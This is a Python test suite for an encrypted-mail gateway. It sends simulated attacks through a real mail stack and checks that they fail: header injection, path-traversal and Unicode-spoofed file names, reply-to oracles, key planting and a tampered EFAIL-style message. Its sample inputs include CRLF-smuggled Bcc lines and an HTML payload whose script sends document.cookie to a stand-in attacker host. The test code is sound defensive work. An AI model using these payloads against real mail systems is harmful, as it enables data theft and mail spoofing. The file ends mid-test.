"""Attacks on encrypted mail against the real daemon (issue 5: oracles,
output injection, large tampered messages, two gateways forwarding to each
other), on the real mail stack (see harness.py).

Each scenario sends what an attacker, or a registered NFP whose client or
staff misbehaves, can send, then reads every mail the gateway sent the way
its recipient does (GnuPG) and the rows it stored, and checks what a user
would: which headers came out, what text the gateway wrote in its own name,
who was written to, which key mail was encrypted to, what was stored.
"""

from __future__ import annotations

import base64
import email
import random
import re
import time
import urllib.parse

from harness import Net, Received, check, mm

REF = re.compile(r"BSM-(?:[A-Z]{2}-)?\d{4}-\d{6}")
ATTACKER = "attacker@evil.example"

BODY_DE = ("Sehr geehrte Damen und Herren,\n\nwir ersuchen um Unterstützung bei der Schulung unserer "
           "Grenzpolizei. Vertraulich: Treffpunkt-0815 am Grenzübergang Nickelsdorf.\n\n"
           "Mit freundlichen Grüßen\n")
BODY_FR = ("Madame, Monsieur,\n\nnous vous prions de nous transmettre les informations relatives aux "
           "contrôles douaniers au point de passage de Nickelsdorf.\n\nCordialement\n")

# Header fields a gateway writes, and those the mail system adds on delivery.
OUTER_FIELDS = {"from", "to", "subject", "date", "message-id", "mime-version", "auto-submitted", "content-type"}
TRACE_FIELDS = {"return-path", "delivered-to", "received", "x-original-to"}
INNER_FIELDS = {"content-type", "from", "to", "subject", "date", "message-id", "auto-submitted"}
INJECTED_LINE = re.compile(rb"^(bcc|cc|x-injected|reply-to)[ \t]*:", re.I | re.M)


# --------------------------------------------------------------------------- composing


def encoded_words(text: str) -> str:
    """`text` as RFC 2047 B-encoded words, folded: every character survives
    (CR, LF, NUL, U+2028 included), as a sender's client can write it."""
    words, chunk = [], b""
    for ch in text:
        b = ch.encode("utf-8")
        if len(chunk) + len(b) > 45:
            words.append(chunk)
            chunk = b""
        chunk += b
    words.append(chunk)
    return "\r\n ".join(f"=?utf-8?B?{base64.b64encode(w).decode()}?=" for w in words)


def named_attachment(data: bytes, name: str, content_type: str = "application/octet-stream") -> mm.Part:
    """A base64 attachment whose name is given as RFC 2231 parameters
    (percent-encoded UTF-8, split into continuations): any character,
    CR and LF included, reaches the receiving parser."""
    units = [urllib.parse.quote(ch.encode("utf-8"), safe="") for ch in name]
    pieces, piece = [], ""
    for u in units:
        if len(piece) + len(u) > 60:
            pieces.append(piece)
            piece = ""
        piece += u
    pieces.append(piece)

    def param(p: str) -> str:
        if len(pieces) == 1:
            return f"{p}*=utf-8''{pieces[0]}"
        return ";\r\n ".join(f"{p}*{i}*={'utf-8' + chr(39) * 2 if i == 0 else ''}{s}" for i, s in enumerate(pieces))

    return mm.Part([("Content-Type", f"{content_type};\r\n {param('name')}"),
                    ("Content-Disposition", f"attachment;\r\n {param('filename')}"),
                    ("Content-Transfer-Encoding", "base64")],
                   mm.encode_body(data, "base64"))


def pgp_mail(net: Net, sender: str, subject: str, parts: list[mm.Part], *, outer: mm.Headers = (),
             inner: mm.Headers = (), frm: str | None = None, signer: str | None = None,
             sign: bool = True, gateway: str | None = None) -> bytes:
    """A PGP/MIME message from persona `sender` (signed by `signer`, its own
    key by default), its subject and From protected, with more header fields
    outside (`outer`) and inside the encryption (`inner`)."""
    w = net.w
    p = w.p[sender]
    gw = w.p[gateway or net.gateway_persona.id]
    msgid = mm.message_id(p.email.split("@")[1])
    frm = frm or p.mailbox
    headers = mm.envelope(frm, gw.email, subject, w.now, msgid) + list(inner)
    entity = mm.protect(mm.multipart("mixed", parts), headers).to_bytes()
    if sign:
        armored = w.gpg.sign_encrypt(entity, w.p[signer or sender].fpr, [gw.fpr], at=w.now)
    else:
        armored = w.gpg.encrypt(entity, [gw.fpr], at=w.now)
    return w.wrap(armored, frm, gw.email, "...", w.now, msgid, list(outer)).eml


# --------------------------------------------------------------------------- reading


def settle(net: Net, inbound: int, timeout: float = 60) -> list[tuple]:
    """Waits until `inbound` messages are filed and every outgoing mail that
    is not held has been sent; returns the outbox rows (purpose, party, email)."""
    rows = net.wait_rows("SELECT id FROM inbound WHERE imap_state = 'filed'", inbound, timeout)
    check(len(rows) == inbound, f"{len(rows)} of {inbound} messages filed; log:\n{net.tail()}")
    deadline = time.monotonic() + timeout
    while net.rows("SELECT COUNT(*) FROM outbox WHERE state NOT IN ('sent', 'held')") != [(0,)]:
        check(time.monotonic() < deadline, f"outgoing mail not sent; log:\n{net.tail()}")
        time.sleep(0.1)
    time.sleep(1)  # Postfix delivers to Dovecot
    return net.rows("SELECT purpose, recipient_party, recipient_email FROM outbox ORDER BY id")


def header_names(block: bytes) -> list[str]:
    """The field names of a raw header section, in order (continuation lines skipped)."""
    head = block.split(b"\r\n\r\n", 1)[0].replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    return [line.split(b":", 1)[0].decode("ascii", "replace").lower()
            for line in head.split(b"\n") if line and line[:1] not in (b" ", b"\t")]


def top_parts(m: Received) -> list[email.message.Message]:
    check(m.inner is not None and m.inner.is_multipart(), f"not a multipart inner entity: {m.status}")
    return list(m.inner.iter_parts())


def own_text(m: Received) -> str:
    """The text the gateway wrote in its own name: the first part of its mail."""
    first = top_parts(m)[0]
    check(first.get_content_type() == "text/plain" and first.get_filename() is None,
          f"the first part is {first.get_content_type()} {first.get_filename()!r}")
    return first.get_content().replace("\r\n", "\n")


def original(m: Received) -> email.message.Message:
    """The attached original (the sender's signed entity)."""
    parts = [p for p in top_parts(m) if (p.get_filename() or "").startswith("original-")]
    check(len(parts) == 1 and parts[0].get_content_type() == "message/rfc822", f"{len(parts)} attached originals")
    return parts[0].get_payload()[0]


def own_bytes(m: Received) -> bytes:
    """The decrypted bytes the gateway wrote: all but the attached original's content."""
    return m.plain.split(b"\r\nContent-Type: message/rfc822", 1)[0]


def check_gateway_mail(m: Received, who: str, *, original_too: bool = False) -> None:
    """What every mail of the gateway must look like: signed by it and
    decrypted with the recipient's key; exactly the gateway's header fields
    outside and inside the encryption; lines of at most 998 octets; a
    one-line subject; no header line anyone injected in what the gateway
    wrote (`original_too`: nor in the attached original)."""
    check(m.decrypted and m.signed_by_gateway, f"{who}: not decrypted/verified: {m.status}")
    outer = sorted(n for n in header_names(m.raw) if n not in TRACE_FIELDS)
    check(outer == sorted(OUTER_FIELDS), f"{who}: outer header fields {outer}")
    check(str(m.outer["Subject"]) == "...", f"{who}: outer subject {m.outer['Subject']!r}")
    inner = header_names(m.plain)
    check(sorted(inner) == sorted(INNER_FIELDS), f"{who}: protected header fields {inner}")
    for name, block in (("outer", m.raw.split(b"\r\n\r\n", 1)[0]), ("protected", m.plain.split(b"\r\n\r\n", 1)[0])):
        long = [len(line) for line in block.split(b"\r\n") if len(line) > 998]
        check(not long, f"{who}: {name} header lines of {long} octets")
    # Outside the encryption and inside it: no line starts a header anyone injected.
    for blob in (m.raw, m.plain if original_too else own_bytes(m)):
        hit = INJECTED_LINE.search(blob)
        check(hit is None, f"{who}: injected header line {blob[hit.start():hit.start() + 80]!r}" if hit else "")
    subject = m.subject
    bad = [c for c in subject if c in "\r\n\0\u2028\u2029\u202e\u202d\u200f" or ord(c) < 32]
    check(not bad, f"{who}: subject with control characters {bad!r}")
    parts = top_parts(m)
    check(set(parts[0].keys()) == {"Content-Type", "Content-Transfer-Encoding"},
          f"{who}: text part fields {parts[0].keys()}")
    for p in parts[1:]:
        check(set(p.keys()) == {"Content-Type", "Content-Transfer-Encoding", "Content-Disposition"},
              f"{who}: attachment fields {p.keys()}")
        name = p.get_filename() or ""
        check(re.fullmatch(r"original-BSM-(?:[A-Z]{2}-)?\d{4}-\d{6}\.(eml|txt)", name) is not None,
              f"{who}: the gateway attached {name!r}, not a generated name")


def all_mail(net: Net) -> dict[str, list[Received]]:
    """Every persona's INBOX that received anything."""
    out = {}
    for pid in net.w.p:
        if pid not in ("gateway", "gateway-at", "lookalike-FR") and net.count(pid):
            out[pid] = net.mailbox(pid)
    return out


def directory_addresses(net: Net) -> set[str]:
    return {e for (e,) in net.rows("SELECT email FROM party")}


def postfix_log(net: Net) -> str:
    return (net.dir / "ms" / "postfix.log").read_text(errors="replace")


# --------------------------------------------------------------------------- output injection

SUBJECT_CRLF = "[HILFEERSUCHEN] Erste Zeile\r\nBcc: attacker+subject@evil.example\r\nX-Injected: subject-crlf"
SUBJECT_CONTROLS = "[REQUEST] Nullbyte\0danach\u2028X-Injected: u2028\u2029\u202Efdp.exe\rCR\nLF"
SUBJECT_TEMPLATE = "[REQUEST] Vorlage {{gateway}} {{{sender.email}}} {{#if subject}}IF{{/if}} {{> acknowledgement}}"
SUBJECT_LONG = "[AUSKUNFTSERSUCHEN] [FR] " + "A" * 10240
NAME_CRLF = "Kontaktstelle\r\nBcc: attacker+name@evil.example\r\nX-Injected: display-name"
FILE_NAMES = {  # as sent -> as the forward must show it
    "../../etc/passwd": "passwd",
    "C:\\Windows\\evil.exe": "evil.exe",
    "\u202Egnp.exe": "gnp.exe",
    "a\r\nBcc: evil@x": "aBcc: evil@x",
}


def output_injection() -> None:
    """Registered NFPs send accepted messages whose protected Subject holds
    CR/LF, NUL, U+2028/U+2029, U+202E, handlebars expressions and 10 KB;
    whose From display names (outside and protected) hold CRLF and header
    lines; whose attachments are named ../../etc/passwd, C:\\Windows\\evil.exe,
    U+202E gnp.exe, "a CRLF Bcc: evil@x", {{gateway}}.pdf and 10 KB; and an
    unknown key sends the same unprotected. Every mail the gateway sent
    (forwards, acknowledgements, the quarantine notice), decrypted by its
    recipient, has exactly the gateway's header fields outside and inside the
    encryption and no injected line; subjects are one line without control
    characters, at most 300 characters; handlebars text appears literally;
    file names are shown sanitized and the attachments it adds have generated
    names; the acknowledgements carry the reference and nothing of the
    message (subject, text, file names)."""
    net = Net("inject")
    try:
        at = net.w.p["AT"]
        name_from = f"{encoded_words(NAME_CRLF)} <{at.email}>"
        pdf = b"%PDF-1.4\n% test\n"
        crlf = pgp_mail(net, "AT", encoded_words(SUBJECT_CRLF),
                        [mm.text(BODY_DE)] + [named_attachment(pdf, n) for n in FILE_NAMES],
                        frm=name_from)
        controls = pgp_mail(net, "RU", encoded_words(SUBJECT_CONTROLS), [mm.text(BODY_DE)])
        template = pgp_mail(net, "FR", SUBJECT_TEMPLATE,
                            [mm.text(BODY_DE), named_attachment(pdf, "{{gateway}}.pdf", "application/pdf")])
        long_name = "B" * 10240 + ".pdf"
        long = pgp_mail(net, "AT", encoded_words(SUBJECT_LONG),
                        [mm.text(BODY_DE), named_attachment(pdf, long_name, "application/pdf")],
                        frm=f"{encoded_words('X' * 10240)} <{at.email}>")
        forged = net.w.pgp_mime(net.w.p["mallory"], encoded_words(SUBJECT_CRLF), [mm.text(BODY_DE)],
                                protected=False, outer_from=name_from).eml
        for eml in (crlf, controls, template, long, forged):
            net.send(eml, frm=at.email)
        net.start_gateway()
        outbox = settle(net, 5)

        rows = net.rows("SELECT verdict, reason, kind FROM inbound ORDER BY id")
        check(sorted(rows, key=str) == sorted([("accepted", None, "assistance_request")] * 3
                                              + [("accepted", None, "information_request"),
                                                 ("quarantined", "unknown_signer", None)], key=str),
              f"decisions {rows}")
        want = sorted([("forward", "secretariat")] * 3 + [("forward", "FR"), ("quarantine_notice", "secretariat")]
                      + [("acknowledgement", "AT")] * 2 + [("acknowledgement", "FR"), ("acknowledgement", "RU")])
        check(sorted((p, r) for p, r, _ in outbox) == want, f"outbox {outbox}")

        mail = all_mail(net)
        counts = {pid: len(got) for pid, got in mail.items()}
        check(counts == {"AT": 2, "FR": 2, "RU": 1, "secretariat": 4}, f"mail went to {counts}")
        for pid, got in mail.items():
            for i, m in enumerate(got):
                # The senders encoded their headers: not even the originals hold an injected line.
                check_gateway_mail(m, f"{pid}#{i}", original_too=True)

        def forward(marker: str, pid: str = "secretariat") -> Received:
            found = [m for m in mail[pid] if marker in m.subject]
            check(len(found) == 1, f"{len(found)} forwards to {pid} with {marker!r}: {[m.subject for m in mail[pid]]}")
            return found[0]

        # CR/LF in the subject: one line, the words kept, no header made of them.
        f = forward("Erste Zeile")
        check("Erste Zeile Bcc: attacker+subject@evil.example X-Injected: subject-crlf" in f.subject, f.subject)
        text = own_text(f)
        for sent, shown in FILE_NAMES.items():
            check(f"  - {shown} (" in text, f"{shown!r} is not listed in the forward:\n{text}")
        for raw in ("../", "..\\", "C:\\", "Windows", "\u202e", "\r"):
            check(raw not in text, f"the forward shows {raw!r} of a file name:\n{text}")
        check(all(not l.lower().startswith(("bcc:", "x-injected:")) for l in text.splitlines()),
              f"a header-like line in the forward's text:\n{text}")
        # ... and the display name with CRLF is not used anywhere: the sender is the directory's entry.
        check("Kontaktstelle Österreich" in text and "display-name" not in text and "attacker+name" not in text,
              f"the forward shows the display name from the message:\n{text}")
        check(b"attacker+name" not in f.plain.split(b"\r\n\r\n", 1)[0], "the display name in a protected header")

        # NUL, lone CR and LF, U+2028/2029, U+202E: gone from the subject, the words kept.
        f = forward("Nullbyte")
        check("danach" in f.subject and "fdp.exe" in f.subject and "CR LF" in f.subject, f.subject)

        # Handlebars from the sender is text, never a template.
        f = forward("Vorlage")
        check("Vorlage {{gateway}} {{{sender.email}}} {{#if subject}}IF{{/if}} {{> acknowledgement}}" in f.subject,
              f"handlebars evaluated: {f.subject!r}")
        check(net.gateway_persona.email not in f.subject and net.w.p["FR"].email not in f.subject, f.subject)
        check("  - {{gateway}}.pdf (application/pdf" in own_text(f), own_text(f))

        # 10 KB: the subject cut to one bounded line, the file name to 100 characters.
        f = forward("AAAAAAAAAA", "FR")
        check(len(f.subject) <= 300 and f.subject.endswith("…"), f"{len(f.subject)} characters: {f.subject[:80]!r}")
        names = [l for l in own_text(f).splitlines() if "BBBBBBBBBB" in l]
        check(len(names) == 1 and names[0].count("B") <= 100, f"the long file name: {names}")
        check("XXXXXXXXXX" not in own_text(f), "the 10 KB display name is shown")

        # Acknowledgements: the reference, nothing of the message.
        acks = [m for pid in ("AT", "FR", "RU") for m in mail[pid] if len(top_parts(m)) == 1]
        check(len(acks) == 4, f"{len(acks)} acknowledgements")
        for m in acks:
            shown = m.subject + "\n" + own_text(m)
            check(REF.search(m.subject) is not None, f"no reference in {m.subject!r}")
            for leak in ("Erste Zeile", "Nullbyte", "Vorlage", "{{", "AAAAAAAAAA", "Treffpunkt", "Grenzpolizei",
                         "passwd", "evil", "gnp", "BBBBBBBBBB", ".pdf", "Bcc", "Injected", "XXXXXXXXXX"):
                check(leak not in shown, f"the acknowledgement quotes the message ({leak!r}):\n{shown}")

        # The notice about the forgery names the reason, nothing of the message.
        notice = [m for m in mail["secretariat"] if "unknown_signer" in m.subject + own_text(m)]
        check(len(notice) == 1, f"{len(notice)} notices")
        shown = notice[0].subject + "\n" + own_text(notice[0])
        for leak in ("Erste Zeile", "Treffpunkt", "Bcc", "Injected", "Kontaktstelle"):
            check(leak not in shown, f"the notice quotes the message ({leak!r}):\n{shown}")
        check(len(top_parts(notice[0])) == 1, "the notice has attachments")
        delivered = re.findall(r"\bto=<([^>]*)>", postfix_log(net))
        check(not [a for a in delivered if "evil" in a], f"Postfix delivered to {sorted(set(delivered))}")
    finally:
        net.close()


# --------------------------------------------------------------------------- oracles


def outsider(tag: str) -> str:
    return f"attacker+{tag}@evil.example"


ANSWER_HERE = [  # every header field that names an address to answer, notify or bounce to
    ("Reply-To", f"Antwort <{outsider('reply-to')}>"),
    ("Mail-Reply-To", outsider("mail-reply-to")),
    ("Mail-Followup-To", outsider("followup")),
    ("Disposition-Notification-To", outsider("dnt")),
    ("Return-Receipt-To", outsider("rrt")),
    ("Sender", outsider("sender")),
    ("Errors-To", outsider("errors")),
    ("Cc", outsider("cc")),
    ("Bcc", outsider("bcc")),
]
MAILTO_TEXT = (f"\n\nBitte antworten Sie an mailto:{outsider('mailto')}?subject=Antwort oder "
               f"<{outsider('text')}>; Lesebestätigung an {outsider('receipt')}.\n")
MAILTO_HTML = (f'<html><body><p>Bitte antworten Sie <a href="mailto:{outsider("html")}?body=Inhalt">hier</a>.'
               f'</p><img src="http://evil.example/track.png"></body></html>')


def no_address_from_a_message_is_ever_written_to() -> None:
    """"Mailto: Me Your Secrets" and "Re: What's Up Johnny?": genuine
    messages (AT to FR, DE to the Secretariat) and forgeries (an unknown
    key claiming AT, AT's signature under FR's From, unencrypted mail from
    the attacker, encrypted but unsigned mail) carry Reply-To,
    Mail-Reply-To, Mail-Followup-To, Disposition-Notification-To,
    Return-Receipt-To, Sender, Errors-To, Cc, Bcc (outside and protected),
    mailto: links in text and HTML, and an attacker's envelope sender (the
    bounce address). Every outbox row goes to a directory address; the
    attacker's mailbox (every +detail of it) receives nothing; Postfix logs
    no delivery to evil.example and no bounce; the gateway's own IMAP
    folders hold no decrypted byte."""
    net = Net("oracle", outsiders=(ATTACKER,))
    try:
        w = net.w
        alternative = mm.multipart("alternative", [mm.text(BODY_DE + MAILTO_TEXT),
                                                   mm.text(MAILTO_HTML, subtype="html")])
        genuine = [
            pgp_mail(net, "AT", "[AUSKUNFTSERSUCHEN] [FR] Grenzkontrollen", [alternative],
                     outer=ANSWER_HERE, inner=ANSWER_HERE),
            pgp_mail(net, "DE", "[REQUEST] Training of customs officers", [mm.text(BODY_DE + MAILTO_TEXT)],
                     outer=ANSWER_HERE + [("Return-Path", f"<{outsider('return-path')}>")], inner=ANSWER_HERE),
        ]
        forged = [
            # an unknown key, claiming AT
            pgp_mail(net, "mallory", "[HILFEERSUCHEN] Dringend", [alternative], frm=w.p["AT"].mailbox,
                     outer=ANSWER_HERE, inner=ANSWER_HERE),
            # AT's signature under FR's From
            pgp_mail(net, "AT", "[DEMANDE D'INFORMATION] Liste", [mm.text(BODY_FR + MAILTO_TEXT)],
                     frm=w.p["FR"].mailbox, outer=ANSWER_HERE, inner=ANSWER_HERE),
            # the attacker, unencrypted
            w.plain(f"Attacker <{ATTACKER}>", "[REQUEST] Contact list", mm.text(BODY_FR + MAILTO_TEXT),
                    extra=ANSWER_HERE),
            # encrypted, not signed, From AT
            pgp_mail(net, "AT", "[HILFEERSUCHEN] Ohne Signatur", [alternative], sign=False,
                     outer=ANSWER_HERE, inner=ANSWER_HERE),
        ]
        for eml in genuine:
            net.send(eml)
        for i, eml in enumerate(forged):
            net.send(eml, frm=outsider(f"bounce{i}"))
        net.start_gateway()
        outbox = settle(net, len(genuine) + len(forged))

        reasons = sorted(r or "accepted" for (r,) in net.rows("SELECT reason FROM inbound"))
        check(reasons == ["accepted", "accepted", "not_encrypted", "not_signed", "sender_mismatch", "unknown_signer"],
              f"decisions {reasons}")
        directory = directory_addresses(net)
        check(ATTACKER not in directory and all("evil" not in a for a in directory), f"directory {directory}")
        for purpose, party, address in outbox:
            check(address in directory, f"{purpose} to {party} <{address}>: not a directory address")
        check(sorted((p, r) for p, r, _ in outbox) ==
              sorted([("forward", "FR"), ("acknowledgement", "AT"), ("forward", "secretariat"),
                      ("acknowledgement", "DE")] + [("quarantine_notice", "secretariat")] * 4), f"outbox {outbox}")
        quarantined = net.rows("SELECT o.purpose FROM outbox o JOIN inbound i ON o.inbound_id = i.id "
                               "WHERE i.verdict = 'quarantined'")
        check({p for (p,) in quarantined} == {"quarantine_notice"}, f"mail caused by quarantined messages: {quarantined}")

        time.sleep(2)  # a late bounce would have been delivered by now
        check(net.stack.count(ATTACKER, net.passwords[ATTACKER]) == 0, "the attacker's mailbox received mail")
        log = postfix_log(net)
        deliveries = re.findall(r"\bto=<([^>]*)>", log)
        check(deliveries and all(a in directory or a == net.gateway_persona.email for a in deliveries),
              f"Postfix delivered to {sorted(set(deliveries))}")
        check("postfix/bounce" not in log and "from=<>" not in log, "Postfix sent a bounce:\n" +
              "\n".join(l for l in log.splitlines() if "bounce" in l or "from=<>" in l))

        # The gateway's own text never repeats an address from a message.
        for pid, got in all_mail(net).items():
            for m in got:
                check_gateway_mail(m, pid)
                text = m.subject + "\n" + own_text(m)
                check("mailto:" not in text and "attacker+" not in text, f"{pid}:\n{text}")
                # A notice shows the envelope From as seen (for the operator); nothing else does.
                if "quarantine" not in text.lower():
                    check("evil.example" not in text, f"{pid}: an address from a message:\n{text}")

        # No decrypted byte goes back to IMAP: the gateway's folders hold what arrived.
        gw = net.gateway_persona.email
        folders = net.stack.folders(gw, net.passwords[gw])
        held = [raw for f in folders for _, raw in net.stack.fetch(gw, net.passwords[gw], f)]
        check(len(held) == len(genuine) + len(forged), f"{len(held)} messages in {folders}")
        for raw in held:
            for secret in (b"Treffpunkt", b"Grenzkontrollen", b"Training of customs"):
                check(secret not in raw, f"decrypted text ({secret!r}) in the gateway's IMAP folders")
    finally:
        net.close()


# --------------------------------------------------------------------------- HTML

HTML = ('<html><head><style>@import url("http://evil.example/style.css");</style></head><body>'
        '<p>Sehr geehrte Damen und Herren,</p><p>wir ersuchen um <b>Unterstützung</b> bei der Schulung '
        'unserer Grenzpolizei, siehe <a href="https://evil.example/login?id=1">Unterlagen</a>.</p>'
        '<img src="http://evil.example/x.png" width="1" height="1">'
        '<script>fetch("http://evil.example/" + document.cookie)</script>'
        '<iframe src="http://evil.example/frame"></iframe></body></html>')
HTML_TAG = re.compile(r"<\s*/?\s*(html|head|body|style|p|b|a|img|script|iframe|div|span|br|link|meta)\b", re.I)


def html_is_never_rendered_into_the_gateways_text() -> None:
    """An HTML-only message (remote image, link, script, iframe, CSS import)
    and a multipart/alternative one from registered NFPs are accepted and
    forwarded: the text the gateway writes and signs in its own name has no
    HTML tag, no URL, nothing from the HTML; the forward's only other part
    is the attached original, where the HTML travels unchanged; the
    acknowledgements carry no HTML either."""
    net = Net("html")
    try:
        html_only = pgp_mail(net, "AT", "[HILFEERSUCHEN] Schulung (HTML)", [mm.text(HTML, subtype="html")])
        alternative = pgp_mail(net, "FR", "[DEMANDE D'INFORMATION] [AT] Contrôles douaniers",
                               [mm.multipart("alternative", [mm.text(BODY_FR + "\nhttps://evil.example/login\n"),
                                                             mm.text(HTML, subtype="html")])])
        net.send(html_only)
        net.send(alternative)
        net.start_gateway()
        settle(net, 2)
        check(net.rows("SELECT verdict FROM inbound") == [("accepted",)] * 2,
              f"{net.rows('SELECT verdict, reason, detail FROM inbound')}")
        mail = all_mail(net)
        check(sorted(mail) == ["AT", "FR", "secretariat"], f"{sorted(mail)}")
        forwards = [m for ms in mail.values() for m in ms if len(top_parts(m)) > 1]
        check(len(forwards) == 2, f"{len(forwards)} forwards")
        for pid, got in mail.items():
            for m in got:
                check_gateway_mail(m, pid)
                text = m.subject + "\n" + own_text(m)
                tag = HTML_TAG.search(text)
                check(tag is None, f"{pid}: an HTML tag in the gateway's text: {tag and tag.group(0)}\n{text}")
                for bad in ("http://", "https://", "evil.example", "javascript", "document.cookie", "@import"):
                    check(bad not in text, f"{pid}: {bad!r} in the gateway's text:\n{text}")
                check(all(p.get_content_type() != "text/html" for p in top_parts(m)),
                      f"{pid}: an HTML part of the gateway's own")
        for m in forwards:
            parts = top_parts(m)
            check([p.get_content_type() for p in parts] == ["text/plain", "message/rfc822"],
                  f"forward parts {[p.get_content_type() for p in parts]}")
            html = [p.get_content() for p in original(m).walk() if p.get_content_type() == "text/html"]
            check(len(html) == 1 and html[0].replace("\r\n", "\n").rstrip("\n") == HTML,
                  "the HTML does not travel unchanged in the attached original")
    finally:
        net.close()


# --------------------------------------------------------------------------- keys


def autocrypt(address: str, key: bytes) -> str:
    """An Autocrypt header value (keydata: the binary key, base64, folded)."""
    b64 = base64.b64encode(key).decode()
    lines = "\r\n ".join(b64[i:i + 72] for i in range(0, len(b64), 72))
    return f"addr={address}; prefer-encrypt=mutual; keydata=\r\n {lines}"


def keys_are_never_imported_from_mail() -> None:
    """AT's genuine assistance request (not a contact update) carries an
    Autocrypt header (outside and protected) with a new key for AT's
    address, an Autocrypt-Gossip header with a new key for FR, and both
    keys as .asc attachments; a forgery by an unknown key claims AT with
    the same, as a contact update. Afterwards the store and `directory
    show` still hold AT's and FR's registered certificates only, and the
    mail the gateway sends to AT (the acknowledgement, then FR's request
    forwarded) is encrypted only to AT's registered key."""
    net = Net("keys")
    try:
        w = net.w
        at, fr = w.p["AT"], w.p["FR"]
        new_at = mm.Persona("AT-new", at.name, at.email, created_days_ago=1)
        new_fr = mm.Persona("FR-new", fr.name, fr.email, created_days_ago=1)
        for p in (new_at, new_fr):
            w.gpg.generate(p, w.now)
        binary = {p.id: w.gpg.run(["--export", p.fpr]).out for p in (new_at, new_fr)}
        armored = {p.id: w.gpg.export(p.fpr) for p in (new_at, new_fr)}
        headers = [("Autocrypt", autocrypt(at.email, binary["AT-new"])),
                   ("Autocrypt-Gossip", autocrypt(fr.email, binary["FR-new"]))]
        keys = [mm.attachment(armored["AT-new"], "nfp-at-neuer-schluessel.asc", "application/pgp-keys"),
                mm.attachment(armored["FR-new"], "fr.asc", "application/pgp-keys")]
        net.send(pgp_mail(net, "AT", "[HILFEERSUCHEN] Schulung der Grenzpolizei", [mm.text(BODY_DE)] + keys,
                          outer=headers[:1], inner=headers))
        net.send(pgp_mail(net, "mallory", "[KONTAKTÄNDERUNG] Neuer Schlüssel", [mm.text(BODY_DE)] + keys,
                          frm=at.mailbox, outer=headers[:1], inner=headers))
        net.start_gateway()
        settle(net, 2)
        rows = net.rows("SELECT verdict, reason, kind FROM inbound ORDER BY id")
        check(sorted(rows, key=str) == sorted([("accepted", None, "assistance_request"),
                                               ("quarantined", "unknown_signer", None)], key=str), f"{rows}")

        certs = net.rows("SELECT party_id, fingerprint FROM party_cert WHERE party_id IN ('AT', 'FR') ORDER BY party_id")
        check(certs == [("AT", at.fpr), ("FR", fr.fpr)], f"stored certificates {certs}")
        shown = net.cli("directory", "show", "AT")
        check(shown.returncode == 0 and f'"cert": "{at.fpr}"' in shown.stdout and new_at.fpr not in shown.stdout,
              shown.stdout + shown.stderr)
        check(net.rows("SELECT COUNT(*) FROM party_version WHERE actor NOT LIKE 'seed%'") == [(0,)],
              f"the directory changed: {net.rows('SELECT party_id, actor FROM party_version')}")

        # The next mail to AT: FR's request, forwarded, encrypted to AT's registered key only.
        net.send(pgp_mail(net, "FR", "[DEMANDE D'INFORMATION] [AT] Contrôles douaniers", [mm.text(BODY_FR)]))
        got = net.wait_mail("AT", 2)
        registered, planted = w.subkeys(at), w.subkeys(new_at)
        for m in got:
            enc_to = {s.split()[1] for s in m.status if s.startswith("ENC_TO ")}
            check(m.decrypted and enc_to and enc_to <= registered and not enc_to & planted,
                  f"mail to AT encrypted to {enc_to}; registered {registered}, planted {planted}")
        check(any("douaniers" in m.subject for m in got), f"{[m.subject for m in got]}")
        fwd = net.rows("SELECT recipient_fingerprint FROM outbox WHERE recipient_party = 'AT'")
        check(fwd and all(f == at.fpr for (f,) in fwd), f"outbox fingerprints {fwd}, AT is {at.fpr}")
    finally:
        net.close()


# --------------------------------------------------------------------------- EFAIL at size


def vm(pid: int, field: str) -> str:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return "?"


def large_tampered_message() -> None:
    """EFAIL at size: AT's genuine message with a 20 MiB attachment (not
    compressed), one bit flipped 2 KiB before the end of the ciphertext, in
    the literal data: 27 MiB decrypt cleanly before the integrity check
    fails. (36 MiB armored: the size cap is raised to 48 MiB so that it is
    decrypted, not refused as too large.) It is quarantined as
    integrity_failure; nothing of its plaintext is stored (content_enc NULL;
    neither the text nor the attachment's bytes in the database or the log),
    forwarded or acknowledged; the Secretariat's notice quotes nothing; the
    Quarantine folder holds the bytes as they arrived. The daemon's peak RSS
    (VmHWM) is printed, not asserted."""
    net = Net("large", extra_config="\n[limits]\nmax-message-size = 50331648\n")
    try:
        w = net.w
        blob = random.Random(20).randbytes(20 << 20)
        marker = "KLARTEXT-MARKER-4711"

        def flip(entity: bytes) -> bytes:
            args = ["--sign", "--encrypt", "--compress-algo", "none", "--digest-algo", "SHA256",
                    "--local-user", w.p["AT"].fpr, "--recipient", w.gateway().fpr]
            data = bytearray(w.gpg.run(args, entity, at=w.now).out)
            data[-2048] ^= 0x01
            return mm.armor(bytes(data), checksum=False)

        start = time.monotonic()
        eml = w.pgp_mime(w.p["AT"], "[HILFEERSUCHEN] Daten", [mm.text(BODY_DE + marker + "\n"),
                                                             mm.attachment(blob, "daten.bin", "application/octet-stream")],
                         seal=flip).eml
        made = time.monotonic() - start
        net.start_gateway()
        time.sleep(0.5)
        rss_idle = vm(net.proc.pid, "VmRSS")
        start = time.monotonic()
        net.send(eml)
        sent = time.monotonic() - start
        settle(net, 1, timeout=90)
        filed = time.monotonic() - start
        print(f"  {len(eml) / (1 << 20):.1f} MiB message made in {made:.1f}s, sent in {sent:.1f}s, "
              f"quarantined and filed {filed:.1f}s after the send; gateway RSS idle {rss_idle}, "
              f"peak (VmHWM) {vm(net.proc.pid, 'VmHWM')}")

        rows = net.rows("SELECT verdict, reason, reference, content_enc IS NULL, content_form FROM inbound")
        check(rows == [("quarantined", "integrity_failure", None, 1, "")],
              f"stored {rows}; detail {net.rows('SELECT detail FROM inbound')}")
        outbox = net.rows("SELECT purpose, recipient_party FROM outbox")
        check(outbox == [("quarantine_notice", "secretariat")], f"outbox {outbox}")
        check(net.count("AT") == 0, "AT received mail about a tampered message")
        notice = net.wait_mail("secretariat", 1)
        check(len(notice) == 1 and "integrity_failure" in notice[0].subject + own_text(notice[0]),
              f"notice {[m.subject for m in notice]}")
        check(marker not in own_text(notice[0]) and "Daten" not in own_text(notice[0]) and len(top_parts(notice[0])) == 1,
              f"the notice quotes the message:\n{own_text(notice[0])}")

        # No plaintext at rest: neither the text nor any 57-byte line of the attachment.
        probes = [marker.encode()] + [base64.b64encode(blob[i:i + 57]) for i in (0, 10 << 20, len(blob) - 4096)]
        probes += [blob[i:i + 32] for i in (0, 10 << 20, len(blob) - 4096)]
        for name, data in net.store.at_rest() + [(net.log.name, net.log.read_bytes())]:
            for probe in probes:
